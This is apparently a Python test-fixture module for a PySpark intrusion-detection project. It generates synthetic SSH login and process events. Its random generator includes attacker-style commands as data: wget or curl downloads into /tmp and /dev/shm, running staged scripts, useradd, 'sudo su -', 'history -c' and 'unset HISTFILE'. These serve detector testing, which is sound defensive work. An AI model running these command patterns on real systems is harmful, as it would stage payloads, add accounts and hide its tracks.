"""Small event sets."""

from __future__ import annotations

import random

from pyspark.sql import functions as F

from duskwatch.schema import ACCEPTED_LOGIN, EVENT_SCHEMA, FAILED_LOGIN, PROCESS, conform

S = 1_000_000
# 2026-06-19 12:00:00 UTC
BASE = 1_781_870_400 * S
FLAT = "seq long, host string, us long, event_type string, source string, " + ", ".join(
    f"{f.name} string" for f in EVENT_SCHEMA.fields[5:-1]
)
COLUMNS = [c.split(" ")[0] for c in FLAT.split(", ")]


def event(seq, us, kind, source="203.0.113.10", host="h0", **meta):
    return {"seq": seq, "host": host, "us": us, "event_type": kind, "source": source, **meta}


def failed(seq, offset_s, user="root", **kw):
    return event(seq, BASE + int(offset_s * S), FAILED_LOGIN, user=user, **kw)


def accepted(seq, offset_s, user="root", **kw):
    return event(seq, BASE + int(offset_s * S), ACCEPTED_LOGIN, user=user, **kw)


def process(seq, offset_s, name, command, **kw):
    kw.setdefault("pid", "10")
    kw.setdefault("ppid", "5")
    return event(seq, BASE + int(offset_s * S), PROCESS, source="127.0.0.1", process_name=name, command=command, **kw)


def frame(spark, events):
    rows = [tuple(e.get(c) for c in COLUMNS) for e in events]
    return conform(spark.createDataFrame(rows, FLAT).withColumn("ts", F.timestamp_micros("us")))


def random_events(seed, n=3000, hosts=3, span_s=2400, step_us=S, hot=0.4):
    """Random logs with ties, hot keys, and commands that name several staged paths."""
    r = random.Random(seed)
    paths = ["/tmp/a", "/tmp/a.sh", "/tmp/b/c", "/dev/shm", "/dev/shm/x", "/tmp/"]
    out = []
    for seq in range(n):
        us = BASE + r.randrange(span_s * S // step_us) * step_us
        host = "h0" if r.random() < hot else f"h{r.randrange(hosts)}"
        ip = "10.0.0.1" if r.random() < hot else f"10.0.0.{r.randrange(6)}"
        user = "root" if r.random() < hot else f"u{r.randrange(12)}"
        roll = r.random()
        if roll < 0.3:
            out.append(event(seq, us, FAILED_LOGIN, source=ip, host=host, user=user))
        elif roll < 0.5:
            country = r.choice(["US", "DE", "FR", "", None])
            out.append(
                event(seq, us, ACCEPTED_LOGIN, source=ip, host=host, user=user, country=country,
                      sshd_pid=r.choice([None, "", *map(str, range(100, 106))]))
            )
        else:
            p, q = r.choice(paths), r.choice(paths)
            name, command = r.choice([
                ("wget", f"wget -O {p} http://x"), ("curl", f"curl -o {p} {q}"), ("curl", "curl http://x"),
                ("bash", f"bash {p}"), ("sh", f"sh -c '{p};{q}'"), ("cp", f"cp {p}{q} /home"), ("ls", "ls -la"),
                ("useradd", f"useradd {user}"), ("useradd", "useradd"), ("sudo", "sudo su -"),
                ("bash", "history -c"), ("bash", "unset HISTFILE"), ("wget", f"wget  {q}"),
            ])
            out.append(
                event(seq, us, PROCESS, source="127.0.0.1", host=host, process_name=name, command=command,
                      pid=str(r.randrange(100, 140)), ppid=str(r.randrange(100, 106)))
            )
    return out
